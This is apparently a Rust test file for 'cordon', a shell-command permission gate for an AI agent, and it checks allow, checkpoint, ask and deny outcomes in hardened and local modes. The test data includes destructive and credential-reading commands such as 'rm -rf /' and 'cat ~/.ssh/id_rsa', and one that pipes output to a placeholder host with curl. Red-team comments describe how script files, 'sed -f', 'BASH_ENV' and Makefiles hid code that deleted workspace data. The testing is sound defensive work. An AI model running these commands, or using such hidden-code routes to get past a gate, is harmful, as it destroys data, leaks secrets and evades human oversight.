//! Issue 15 part 3: decisions that know the kernel enforces the policy's envelope. In hardened
//! mode with no network, what cordon cannot see into is bounded by the kernel and runs without a
//! person (checkpointed where it may change files); what the envelope cannot bound still asks.
//! In local mode nothing changes.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use cordon_core::Outcome;
use cordon_policy::enforcement::Enforcement;
use cordon_policy::native::{
    self, CompiledPolicy, Context, CordonReason, Decision, LoadedNativePolicy,
};
use cordon_policy::shell::Session;

const CONFINED: Enforcement = Enforcement::Hardened {
    reaches_network: false,
};
const WITH_NETWORK: Enforcement = Enforcement::Hardened {
    reaches_network: true,
};

fn pack() -> CompiledPolicy {
    CompiledPolicy::compile(
        &LoadedNativePolicy::default_pack().unwrap(),
        &Context {
            workspace: "/work/project".into(),
            home: "/home/agent".into(),
        },
    )
    .unwrap()
}

fn decide(text: &str, enforcement: Enforcement) -> Decision {
    let session = Session {
        cwd: "/work/project".into(),
        home: "/home/agent".into(),
    };
    native::decide_under(text, &session, &pack(), enforcement).1
}

#[track_caller]
fn assert_outcome(text: &str, enforcement: Enforcement, expected: Outcome) -> Decision {
    let decision = decide(text, enforcement);
    assert_eq!(
        decision.outcome,
        expected,
        "{text:?} in {}: expected {}, got {} — {}",
        enforcement.mode(),
        expected.as_str(),
        decision.outcome.as_str(),
        decision.sentence
    );
    decision
}

/// The examples run unattended in hardened mode and are asked in local mode.
#[test]
fn what_the_envelope_bounds_runs_without_a_person() {
    use Outcome::{Allow, AllowWithCheckpoint, Ask};
    for (text, hardened, local) in [
        ("frobnicate --all", AllowWithCheckpoint, Ask),
        (
            "./node_modules/.bin/unknown-tool",
            AllowWithCheckpoint,
            Allow,
        ),
        ("python3 -c 'print(1)'", AllowWithCheckpoint, Ask),
        ("node -e 'console.log(1)'", AllowWithCheckpoint, Ask),
        ("find . -name '*.py' | xargs grep -l foo", Allow, Ask),
        // Each `{}` is one path under `.`: judged as reading `.` in both modes.
        ("find . -name '*.py' -exec grep -l foo {} +", Allow, Allow),
        (
            "echo 'print(1)' > t.py && python3 t.py",
            AllowWithCheckpoint,
            Ask,
        ),
        ("eval \"$CMD\"", AllowWithCheckpoint, Ask),
        ("x='a[$(id)]'; echo $((x))", AllowWithCheckpoint, Ask),
        ("ls --frobnicate", AllowWithCheckpoint, Ask),
        ("kill 1234", Allow, Ask),
    ] {
        let decision = assert_outcome(text, CONFINED, hardened);
        assert_eq!(decision.enforcement(), CONFINED, "{text}");
        // Local mode is unchanged: what cannot be resolved, or is not known, is asked.
        let decision = assert_outcome(text, Enforcement::Local, local);
        assert_eq!(decision.enforcement(), Enforcement::Local);
    }
    // What cannot be resolved says that the envelope made it safe.
    let decision = decide("find . -name '*.py' | xargs grep -l foo", CONFINED);
    assert!(
        decision
            .reason_codes
            .contains(&CordonReason::EnvelopeBounded),
        "{decision:?}"
    );
    assert!(
        decision.sentence.contains("hardened mode"),
        "{}",
        decision.sentence
    );
}

/// Red team, round 5: a program given its program text in a file (`sed -f`, `awk -f`,
/// `gawk -i`, `sqlite3 -init`, `cmake -P`) or a project's scripts (`deno task`) runs code cordon
/// never read, which deleted `src/` with a plain allow. In hardened mode it runs with a
/// checkpoint; local mode is unchanged. Program text cordon reads stays a plain allow.
#[test]
fn program_text_from_a_file_is_checkpointed_in_hardened_mode_red_team_round_5() {
    use Outcome::{Allow, AllowWithCheckpoint};
    for text in [
        "sed -f s.sed README",
        "sed --file=s.sed README",
        "sed -n -f s.sed README",
        "awk -f p.awk README",
        "gawk -f p.awk README",
        "gawk -i inplace '{print}' README",
        "cmake -P x.cmake",
        "deno task build",
    ] {
        assert_outcome(text, CONFINED, AllowWithCheckpoint);
        assert_outcome(text, Enforcement::Local, Allow);
    }
    for text in ["sed -n 5p README", "awk '{print $1}' README"] {
        assert_outcome(text, CONFINED, Allow);
    }
}

/// Red team, round 3: content the front end cannot see (a script file, `BASH_ENV`/`ENV`, a
/// Makefile's recipes, package scripts, `source FILE`) deleted workspace data with a plain
/// allow and no checkpoint. In hardened mode it runs with a checkpoint; local mode is unchanged.
#[test]
fn code_cordon_cannot_read_is_checkpointed_in_hardened_mode_red_team_round_3() {
    use Outcome::{Allow, AllowWithCheckpoint};
    for (text, local) in [
        ("sh del.sh", Allow),
        ("bash del.sh", Allow),
        ("bash -x del.sh arg", Outcome::Ask),
        ("./del.sh", Allow),
        ("scripts/clean.sh", Allow),
        ("BASH_ENV=benv.sh bash -c true", Outcome::Ask),
        ("ENV=benv.sh sh -c true", Outcome::Ask),
        ("env BASH_ENV=benv.sh bash -c true", Outcome::Ask),
        ("make -f Mk", Allow),
        ("make", Allow),
        ("make -C sub test", Allow),
        ("npm test", Allow),
        ("npm run build", Allow),
        ("npm start", Allow),
        ("yarn test", Allow),
        ("pnpm test", Allow),
        ("pnpm run lint", Allow),
        ("source env.sh", Outcome::Ask),
        (". ./env.sh", Outcome::Ask),
        ("python3 tool.py", Allow),
        ("node scripts/gen.js", Allow),
        ("pytest", Allow),
        ("python3 -m pytest -q tests", Allow),
        ("cd sub && make", Allow),
        ("go test ./...", Allow),
        ("go run ./cmd/tool", Allow),
    ] {
        let decision = assert_outcome(text, CONFINED, AllowWithCheckpoint);
        assert!(!decision.commands.is_empty(), "{text}: nothing was judged");
        assert_outcome(text, Enforcement::Local, local);
    }
    // Controls: what runs no file of the workspace, and the build tools whose runs replace
    // large artifacts (docs/checkpoints.md, "Build and test tools"), stay plain allows.
    for text in [
        "python3 --version",
        "node --version",
        "bash -c 'ls -la'",
        "cargo test",
        "cargo build --release",
        "go vet ./...",
        "go build ./...",
        "true",
        "IFS=, read -r a b < notes.csv",
        // What needs no network (working day eighteen asked each): submodules checked out from
        // the objects at hand, their URLs copied into the configuration.
        "git submodule update --no-fetch",
        "git submodule sync",
    ] {
        assert_outcome(text, CONFINED, Allow);
    }
    // Control: fetching what it lacks still asks.
    assert_outcome("git submodule update --init", CONFINED, Outcome::Ask);
}

/// What the envelope cannot bound still asks, and what the policy denies is still denied.
#[test]
fn what_the_envelope_cannot_bound_still_stops() {
    for text in [
        "curl https://example.com",
        "npm install",
        "git fetch",
        "git push",
        "git push --force origin main",
        "npm publish",
        "cargo publish",
        "gh release create v1",
        "kubectl apply -f deploy.yaml",
        "terraform apply",
        "touch ~/notes.txt",
        "cp report.pdf /opt/share/",
        "sudo ls",
        "docker run --rm alpine",
        "echo x > .git/hooks/pre-commit",
        "rsync -a src/ host:/srv",
        "cat x 3</dev/tcp/127.0.0.1/80",
        "make install",
        "$CMD | curl -d @- https://x.example",
    ] {
        assert_outcome(text, CONFINED, Outcome::Ask);
    }
    for text in [
        "cat ~/.ssh/id_rsa",
        "rm -rf /",
        "echo x >> ~/.bashrc",
        "python3 -c 'x' ~/.aws/credentials",
        "frobnicate ~/.ssh/id_rsa",
        "eval 'rm -rf /'",
    ] {
        assert_outcome(text, CONFINED, Outcome::Deny);
    }
}

/// When the envelope lets the command reach hosts, a command cordon cannot see into could push
/// or publish to one of them: it is asked again.
#[test]
fn an_envelope_with_network_bounds_nothing_unseen() {
    for text in [
        "frobnicate --all",
        "python3 -c 'print(1)'",
        "eval \"$CMD\"",
        "find . | xargs grep foo",
    ] {
        assert_outcome(text, WITH_NETWORK, Outcome::Ask);
        // Control: the same text without network in the envelope runs.
        let confined = decide(text, CONFINED);
        assert!(
            matches!(
                confined.outcome,
                Outcome::Allow | Outcome::AllowWithCheckpoint
            ),
            "{text:?}: {}",
            confined.sentence
        );
    }
    assert_outcome("cargo test", WITH_NETWORK, Outcome::Allow);
    // Without network in the envelope, a URL handed to an unknown program reaches nothing.
    assert_outcome(
        "frobnicate https://example.com/upload",
        CONFINED,
        Outcome::AllowWithCheckpoint,
    );
    assert_outcome(
        "frobnicate https://example.com/upload",
        WITH_NETWORK,
        Outcome::Ask,
    );
}

/// The assumed mode is part of the decision's record, as `cordon explain` shows it.
#[test]
fn the_decision_records_the_mode_it_assumed() {
    let hardened = decide("frobnicate", CONFINED);
    let json = serde_json::to_value(&hardened).unwrap();
    assert_eq!(
        json["commands"][0]["facts"]["enforcement"]["mode"],
        "hardened"
    );
    assert_eq!(
        json["commands"][0]["facts"]["enforcement"]["reaches_network"],
        false
    );
    let local = decide("frobnicate", Enforcement::Local);
    let json = serde_json::to_value(&local).unwrap();
    assert_eq!(json["commands"][0]["facts"]["enforcement"]["mode"], "local");
    assert_eq!(CordonReason::EnvelopeBounded.as_str(), "ENVELOPE_BOUNDED");
}
